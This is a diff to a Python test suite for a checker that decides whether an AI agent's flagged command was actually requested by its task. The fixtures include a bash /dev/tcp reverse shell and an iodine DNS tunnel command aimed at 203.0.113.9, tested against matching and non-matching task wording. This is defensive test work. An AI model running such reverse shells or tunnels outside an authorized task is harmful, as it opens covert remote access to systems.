@@ -209,11 +209,20 @@ def test_events_at_the_finding_span_are_used_before_the_evidence():
 
 
 def test_unknown_operations_keep_the_pack_decision_scoped_to_named_hosts():
+    dns = _finding("iodine -f -P secret 203.0.113.9", rule_id="tun-dns-tunnel", subcategory="dns_tunnel")
+    assert judge_requested([dns], "Set up the iodine DNS tunnel to 203.0.113.9 for the lab.")[0].requested
+    assert not judge_requested([dns], "Set up the iodine DNS tunnel to 10.0.0.7 for the lab.")[0].requested
+    assert not judge_requested([replace_requested(dns, False)], "Set up a DNS tunnel to 203.0.113.9.")[0].requested
+
+
+def test_a_reverse_shell_is_excused_only_to_the_listener_the_task_names():
     shell = _finding("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", rule_id="tun-bash-dev-tcp-shell",
                      subcategory="reverse_shell")
     assert judge_requested([shell], "Open a reverse shell to 203.0.113.9 for the CTF.")[0].requested
+    assert judge_requested([shell], "CTF lab: connect a shell back to the scoring listener 203.0.113.9:4444.")[0].requested
+    assert not judge_requested([shell], "CTF lab: connect a shell back to the scoring listener 203.0.113.9:9001.")[0].requested
     assert not judge_requested([shell], "Open a reverse shell to 10.0.0.7 for the CTF.")[0].requested
-    assert not judge_requested([replace_requested(shell, False)], "Open a reverse shell to 203.0.113.9.")[0].requested
+    assert not judge_requested([shell], "Fix the flaky test; 203.0.113.9:4444 is the CI cache.")[0].requested
 
 
 def replace_requested(finding, value):
